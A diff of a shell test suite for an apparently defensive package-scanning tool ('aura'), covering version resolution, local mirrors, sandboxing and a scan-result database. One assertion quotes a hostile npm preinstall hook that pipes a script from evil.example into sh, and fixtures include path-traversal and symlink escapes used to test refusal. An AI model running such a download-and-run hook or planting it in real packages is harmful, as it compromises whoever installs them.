@@ -3,19 +3,7 @@
 # site-packages, against a fixture registry served on 127.0.0.1 (no internet needed).
 
 load helpers/common
-
-FIX="$BATS_TEST_DIRNAME/fixtures/registry"
-
-# start_server NAME [CERT KEY]: serve $BATS_FILE_TMPDIR/NAME/web; sets the port in NAME/port.
-start_server() {
-	local dir="$BATS_FILE_TMPDIR/$1"
-	mkdir -p "$dir/web"
-	python3 "$FIX/serve.py" "$dir/web" "$dir/port" "${2:--}" "${3:-}" 3>&- &
-	echo $! >"$dir/pid"
-	for _ in $(seq 100); do [ -s "$dir/port" ] && return 0; sleep 0.1; done
-	echo "fixture server $1 did not start" >&2
-	return 1
-}
+load fixtures/registry/server
 
 setup_file() {
 	start_server plain
@@ -44,8 +32,6 @@ setup() {
 	LOG="$BATS_FILE_TMPDIR/plain/requests.log"
 }
 
-# fields: "type name version filename" per record of $output.
-fields() { printf '%s\n' "$output" | jq -r '[.type, .name // "-", .version // "-", .filename // .message // "-"] | join(" ")'; }
 
 @test "pypi:NAME is the newest release by PEP 440 that is not yanked or a pre-release; sdist and wheels" {
 	run -0 --separate-stderr aura-fetch --index-url "$INDEX" pypi:Demo_Pkg
@@ -175,7 +161,7 @@ error - - -"
 	assert_jq "${lines[1]}" '.ecosystem == "npm" and .format == "tar.gz" and .registry.install_scripts == {"preinstall": "curl -s http://evil.example/x.sh | sh"}'
 	assert_jq "${lines[0]}" '.registry.install_scripts == {} and .registry.first_upload_time == "2024-03-01T00:00:00Z"'
 	[[ ${lines[5]} == *"unknown package 'nope'"* ]]
-	[[ ${lines[6]} == *"no version '9.9' of 'leftpad'"* ]]
+	[[ ${lines[6]} == *"no version of 'leftpad' matches '9.9'"* ]]
 }
 
 @test "https/http archive URLs, verified when the URL carries #sha256=" {
@@ -270,10 +256,12 @@ artifact local 0.1 -
 artifact pep691 3.0 pep691-3.0.tar.gz"
 	assert_jq "${lines[0]}" '.path == "requirements.txt:7"'
 	assert_jq "${lines[2]}" '.origin == "more.txt:1" and .target == "pypi:evil==1.0"'
-	# A --hash that matches no published file is an error, never a skip.
+	# A --hash that matches no published file is refused with a DigestMismatch hit, never a skip.
 	printf 'demo-pkg==1.0 --hash=sha256:%s\n' "$(printf '1%.0s' $(seq 64))" >requirements.txt
 	run -0 --separate-stderr aura-fetch --index-url "$INDEX" requirements.txt
-	assert_jq "$output" '.type == "error" and .path == "requirements.txt:1" and (.message | test("matching the --hash values"))'
+	assert_equal "${#lines[@]}" 2
+	assert_jq "${lines[0]}" '.type == "hit" and .detection == "DigestMismatch" and .artifact == "requirements.txt:1"'
+	assert_jq "${lines[1]}" '.type == "error" and .artifact == "requirements.txt:1" and (.message | test("matching the --hash values"))'
 	# The driver exits 2 for the bad line and still scans the rest.
 	printf 'evil==1.0\nnot/a requirement\n' >requirements.txt
 	run -2 --separate-stderr aura scan --format json --index-url "$INDEX" --only sdist requirements.txt
@@ -381,4 +369,151 @@ artifact oldpkg 0.5"
 	# The tarball's own package.json counts even when the registry document hides the script.
 	run -0 --separate-stderr bash -c "aura-fetch --registry '$BASE/' npm:@acme/widget | jq -c 'if .type == \"artifact\" then .registry.install_scripts = {} else . end' | aura-unpack | aura-parse | aura-rewrite | aura-analyze"
 	assert_jq "$(printf '%s\n' "$output" | grep '"type":"hit"')" '.detection == "DownloadAndRun" and .file'
+}
+
+@test "npm ranges resolve to the newest matching version (node-semver); pre-releases only with --pre; dist-tags" {
+	resolve() { aura-fetch --registry "$BASE/" "npm:ranged@$1" 2>/dev/null | jq -r 'if .type == "artifact" then .version else "error: " + .message end'; }
+	while IFS=';' read -r range want; do
+		assert_equal "$range -> $(resolve "$range")" "$range -> $want"
+	done <<-EOF
+	^1.2;1.10.0
+	^1.2.6;1.10.0
+	~1.2.3;1.2.5
+	~1.2;1.2.5
+	~1;1.10.0
+	^0.2;0.2.9
+	^0.0.3;0.0.3
+	^0;0.9.0
+	>=1 <2;1.10.0
+	>=1.0.0 <1.3;1.2.5
+	1.x;1.10.0
+	1.2.x;1.2.5
+	*;3.0.0
+	x;3.0.0
+	>1.2 <2;1.10.0
+	<=1.2;1.2.5
+	<1.2;1.0.0
+	1.0.0 - 1.2;1.2.5
+	1.0 - 2;2.0.0
+	^0.0.1 || ~1.2;1.2.5
+	1.3.0-beta.1;1.3.0-beta.1
+	^1.3.0-beta.0;1.10.0
+	>=1.3.0-beta.0 <1.4;1.3.0-beta.1
+	>=2.0.1 <3;error: no version of 'ranged' matches '>=2.0.1 <3' (pre-releases only with --pre)
+	latest;2.0.0
+	next;3.0.0
+	2.0.0;2.0.0
+	^9;error: no version of 'ranged' matches '^9' (pre-releases only with --pre)
+	>=x.y;error: '>=x.y' is not a version, dist-tag or range of 'ranged'
+	EOF
+	run -0 aura-fetch --registry "$BASE/" --pre 'npm:ranged@>=2.0.1 <3'
+	assert_jq "$output" '.version == "2.1.0-rc.1"'
+	# No version: the "latest" dist-tag, never the newest number.
+	run -0 aura-fetch --registry "$BASE/" npm:ranged
+	assert_jq "$output" '.version == "2.0.0"'
+}
+
+@test "a bandersnatch mirror on disk is an index (file://): JSON API where present, else simple pages; a tampered file is refused" {
+	python3 "$FIX/make-mirror.py" mirror
+	M="file://$PWD/mirror/web/simple/"
+	run -0 --separate-stderr aura-fetch --index-url "$M" pypi:alpha pypi:onlysimple pypi:bad-one==0.1 pypi:nope
+	assert_equal "$(fields)" "artifact alpha 2.0 alpha-2.0.tar.gz
+artifact onlysimple 0.5 onlysimple-0.5.tar.gz
+artifact bad-one 0.1 bad_one-0.1.tar.gz
+error - - unknown project 'nope' on $M (HTTP 404)"
+	# The JSON API's files.pythonhosted.org URLs are read from the mirror's packages/.
+	assert_jq "${lines[0]}" '(.url | startswith("file://") and contains("/mirror/web/packages/")) and .registry.api == "json" and .registry.summary == "mirror fixture"'
+	assert_jq "${lines[1]}" '.registry.api == "simple-html"'
+	run --separate-stderr aura scan --format json --index-url "$M" pypi:bad-one
+	assert_jq "$output" '.risk == "critical"'
+	# A file changed in the mirror does not match its digest.
+	f=$(ls mirror/web/packages/*/*/*/alpha-2.0.tar.gz)
+	printf 'x' >>"$f"
+	XDG_CACHE_HOME=$PWD/fresh-cache run -0 --separate-stderr aura-fetch --index-url "$M" pypi:alpha
+	assert_equal "$(fields | head -1)" "hit - - DigestMismatch"
+	# Not a folder: a usage error.
+	run -2 aura-fetch --index-url "file://$PWD/nothing/simple/" pypi:alpha
+	assert_output --partial "No such file or directory"
+}
+
+@test "a mirror: links out of it are refused, and Landlock lets the stage read only the mirror, the cache and the targets' folders" {
+	python3 "$FIX/make-mirror.py" mirror
+	M="file://$PWD/mirror/web/simple/"
+	cp "$BATS_FILE_TMPDIR/plain/web/packages/evil-1.0.tar.gz" outside.tar.gz
+	sha=$(sha256sum outside.tar.gz | cut -d' ' -f1)
+	mkdir -p mirror/web/simple/escape mirror/web/simple/linked
+	echo "<a href=\"../../../../outside.tar.gz#sha256=$sha\">escape-1.0.tar.gz</a>" >mirror/web/simple/escape/index.html
+	ln -s "$PWD/outside.tar.gz" mirror/web/packages/linked-1.0.tar.gz
+	echo "<a href=\"../../packages/linked-1.0.tar.gz#sha256=$sha\">linked-1.0.tar.gz</a>" >mirror/web/simple/linked/index.html
+	run -0 --separate-stderr aura-fetch --index-url "$M" pypi:escape
+	assert_jq "$output" '.type == "error" and (.message | test("outside the mirror given as --index-url: refused"))'
+	[ "$(landlock_abi)" -ge 1 ] || skip "no Landlock on this kernel: the symlink case is confined only by name"
+	run -0 --separate-stderr aura-fetch --index-url "$M" pypi:linked
+	assert_jq "$output" '.type == "error" and (.message | test("Permission denied"))'
+	# Control: unconfined, the same link is read.
+	AURA_ALLOW_NO_SANDBOX=1 run -0 --separate-stderr aura-fetch --no-sandbox --index-url "$M" pypi:linked
+	assert_jq "$output" '.type == "artifact" and .name == "linked"'
+}
+
+@test "aura-fetch --list: every project of an index or a mirror as targets, or --latest releases; piped back in, they are fetched" {
+	python3 "$FIX/make-mirror.py" mirror
+	M="file://$PWD/mirror/web/simple/"
+	run -0 --separate-stderr aura-fetch --index-url "$M" --list
+	assert_equal "$output" "pypi:alpha
+pypi:bad-one
+pypi:onlysimple"
+	run -0 --separate-stderr aura-fetch --index-url "$M" --list --latest
+	assert_equal "$output" "pypi:alpha==2.0
+pypi:bad-one==0.1
+pypi:onlysimple==0.5"
+	run -0 --separate-stderr aura-fetch --index-url "$M" --list --latest --pre
+	assert_line -n 0 "pypi:alpha==3.0b1"
+	run -0 --separate-stderr bash -c "aura-fetch --index-url '$M' --list --latest | aura-fetch --index-url '$M'"
+	assert_equal "$(fields)" "artifact alpha 2.0 alpha-2.0.tar.gz
+artifact bad-one 0.1 bad_one-0.1.tar.gz
+artifact onlysimple 0.5 onlysimple-0.5.tar.gz"
+	# An HTTP index: PEP 503 HTML root and PEP 691 JSON root.
+	printf '<html><a href="evil/">evil</a><a href="/simple/pep691/">pep691</a><a>bad name!</a></html>' >"$BATS_FILE_TMPDIR/plain/web/simple/index.html"
+	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --list --latest
+	assert_equal "$(printf '%s\n' "$output" | sed 's/{.*"message":"\([^"]*\)".*/error: \1/')" "pypi:evil==1.0
+pypi:pep691==3.0
+error: the index lists 'bad name!', which is not a project name"
+	rm "$BATS_FILE_TMPDIR/plain/web/simple/index.html"
+	run -2 aura-fetch --latest
+	run -2 aura-fetch --list pypi:x
+}
+
+@test "--db: an artifact already scanned under the same Aura version, rules and limits is not scanned again; --rescan, other rules, schema 1" {
+	python3 "$FIX/make-mirror.py" mirror
+	M="file://$PWD/mirror/web/simple/"
+	scan() { aura scan --format json --db t.db --index-url "$M" "$@" 2>/dev/null | jq -c '[.artifact.name, .risk, (.reused | if . then "reused" else "scanned" end)] | join(" ")' -r; }
+	assert_equal "$(scan pypi:bad-one pypi:alpha)" "bad-one critical scanned
+alpha info scanned"
+	assert_equal "$(scan pypi:bad-one pypi:alpha pypi:onlysimple)" "bad-one critical reused
+alpha info reused
+onlysimple info scanned"
+	# What aura-fetch sends instead of the artifact: no unpacking, parsing or analysis.
+	digest=$(sha256sum <"$AURA_ROOT/data/rules.yaml" | cut -d' ' -f1)
+	run -0 --separate-stderr aura-fetch --index-url "$M" --db t.db --rules-digest "$digest" --limits defaults pypi:alpha
+	assert_jq "$output" '.type == "reused" and .name == "alpha" and (.sha256 | length == 64)'
+	# The reused verdict is not stored again: 3 verdicts for 3 artifacts.
+	assert_equal "$(sqlite3 t.db 'select count(*) from artifacts')" 3
+	assert_equal "$(scan --rescan pypi:alpha)" "alpha info scanned"
+	# Other rules: another key.
+	cp "$AURA_ROOT/data/rules.yaml" rules.yaml && echo '# changed' >>rules.yaml
+	assert_equal "$(scan --rules rules.yaml pypi:alpha)" "alpha info scanned"
+	assert_equal "$(scan --rules rules.yaml pypi:alpha)" "alpha info reused"
+	# An incomplete verdict is never reused.
+	sqlite3 t.db "update artifacts set complete = 0"
+	assert_equal "$(scan pypi:alpha)" "alpha info scanned"
+	# A schema-1 database is migrated; its verdicts have no key and are scanned again.
+	sqlite3 t.db "alter table scans drop column rules_digest; alter table scans drop column limits; update meta set value = '1' where key = 'schema'"
+	assert_equal "$(scan pypi:bad-one)" "bad-one critical scanned"
+	assert_equal "$(sqlite3 t.db "select value from meta where key = 'schema'")" 2
+	assert_equal "$(scan pypi:bad-one)" "bad-one critical reused"
+	# A reused record with no database to read it from: an error, never a silent pass.
+	run -2 --separate-stderr bash -c "aura-fetch --index-url '$M' --db t.db --rules-digest '$digest' --limits defaults pypi:bad-one | aura-score --format json"
+	[[ "$stderr" == *"no --db to read its verdict from"* ]]
+	run -2 aura-fetch --db t.db pypi:alpha
+	assert_output --partial "needs --rules-digest and --limits"
 }
